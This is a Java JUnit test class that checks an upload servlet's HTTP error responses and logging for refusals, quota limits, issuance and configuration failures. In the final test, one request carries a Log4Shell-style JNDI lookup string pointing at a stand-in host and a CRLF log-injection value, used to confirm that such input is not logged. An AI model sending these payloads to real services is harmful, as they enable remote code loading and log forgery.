package io.uploadgrants.servlet;

import static org.assertj.core.api.Assertions.assertThat;

import io.uploadgrants.ErrorCode;
import io.uploadgrants.IssuanceFailedException;
import io.uploadgrants.OverQuotaException;
import io.uploadgrants.UploadConfigurationException;
import io.uploadgrants.UploadProfile;
import io.uploadgrants.UploadRefusedException;
import io.uploadgrants.UploadRequest;
import io.uploadgrants.equipment.logs.RecordedLogs;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedClass;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.EnumSource;
import tools.jackson.databind.JsonNode;

@ParameterizedClass
@EnumSource
class RefusalsTests {

  private final TestServer server;

  RefusalsTests(Container container) {
    server = TestServer.shared(container, RefusalsTests.class, RefusalsTests::servlet);
  }

  private static UploadServlet servlet() {
    return new UploadServlet(
        TestGrants.builder().authorizer(RefusalsTests::throwWhatTheNameSays).build());
  }

  private static void throwWhatTheNameSays(UploadRequest request, UploadProfile profile) {
    String name = String.valueOf(request.fileName());
    if (name.startsWith("quota:")) {
      throw new OverQuotaException("Ten a day.", Duration.parse(name.substring(6)));
    }
    switch (name) {
      case "denied" -> throw UploadRefusedException.denied("Told.");
      case "half" -> throw UploadRefusedException.denied("Half \ud83d of \"two\" \ud83d\ude00");
      case "values" ->
          throw new UploadRefusedException(
              ErrorCode.DENIED, "Told.", List.of("a", 1, 2.5), Duration.ofSeconds(3));
      case "issuance" ->
          throw new IssuanceFailedException("STS of 10.1.2.3 is away.", new Error("inner"));
      case "configuration" ->
          throw new UploadConfigurationException("profiles.any", "Profile 'any' lacks inner.");
      case "runtime" ->
          throw new IllegalStateException("inner text", new IllegalArgumentException("inner"));
      default -> {}
    }
  }

  private Answered named(String name) {
    return server.post("{\"profile\":\"any\",\"fileName\":\"" + name + "\"}");
  }

  @Test
  void aProblemTellsItsMembersInOrderUnderATitleOfItsCode() {
    JsonNode problem =
        server
            .post("{\"profile\":\"avatar\",\"size\":7340032,\"contentType\":\"image/png\"}")
            .problem(413, "too-large");

    assertThat(problem.propertyNames())
        .containsExactly(
            "type", "title", "status", "code", "detail", "limit", "given", "error", "message");
    assertThat(problem.path("title").asString()).isEqualTo("Too large");
  }

  @Test
  void halfOfASurrogatePairIsReplaced() {
    assertThat(named("half").problem(403, "denied").path("detail").asString())
        .isEqualTo("Half \ufffd of \"two\" \ud83d\ude00");
  }

  @Test
  void valuesOfAnyTypeAreTold() {
    JsonNode problem = named("values").problem(403, "denied");

    assertThat(problem.path("limit").toString()).isEqualTo("[\"a\",1,2.5]");
    assertThat(problem.path("given").asString()).isEqualTo("PT3S");
  }

  @ParameterizedTest
  @CsvSource({"PT-5S, 1", "PT9223372036854775807.9S, 9223372036854775807"})
  void aQuotaOfAbsurdLengthIsToldInWholeSecondsToo(String wait, String seconds) {
    Answered answer = named("quota:" + wait);

    answer.problem(429, "over-quota");
    assertThat(answer.header("retry-after")).isEqualTo(seconds);
  }

  @Test
  void aFailureToIssueIsLoggedAsAWarningWithoutForeignTexts() {
    RecordedLogs.clear();

    named("issuance").problem(503, "issuance-failed");

    assertThat(RecordedLogs.ours())
        .singleElement()
        .asString()
        .startsWith("WARN ")
        .contains("STS of 10.1.2.3 is away.")
        .contains("java.lang.Error")
        .doesNotContain("inner");
  }

  @Test
  void aWrongSetUpIsLoggedAsAnError() {
    RecordedLogs.clear();

    named("configuration").problem(500, "invalid-configuration");

    assertThat(RecordedLogs.ours())
        .singleElement()
        .asString()
        .startsWith("ERROR ")
        .contains("Profile 'any' lacks inner.");
  }

  @Test
  void anUnexpectedFailureIsLoggedOnceWithItsPlaceAndWithoutItsText() {
    RecordedLogs.clear();

    named("runtime").problem(500, "internal-error");

    assertThat(RecordedLogs.lines())
        .singleElement()
        .asString()
        .startsWith("ERROR io.uploadgrants.http.UploadEndpoint")
        .contains("java.lang.IllegalStateException")
        .contains("java.lang.IllegalArgumentException")
        .contains("at io.uploadgrants.servlet.RefusalsTests.throwWhatTheNameSays")
        .doesNotContain("inner");
  }

  @Test
  void whatACallerCanMendIsNotLogged() {
    RecordedLogs.clear();

    named("denied");
    named("quota:PT1S");
    server.post("{");
    server.post("{\"profile\":\"nope\"}");
    server.post("{\"profile\":\"a\\r\\nb\",\"kind\":\"${jndi:ldap://evil.example/a}\"}");
    server.send("GET", "/uploads/nothing");

    assertThat(RecordedLogs.ours()).isEmpty();
  }
}
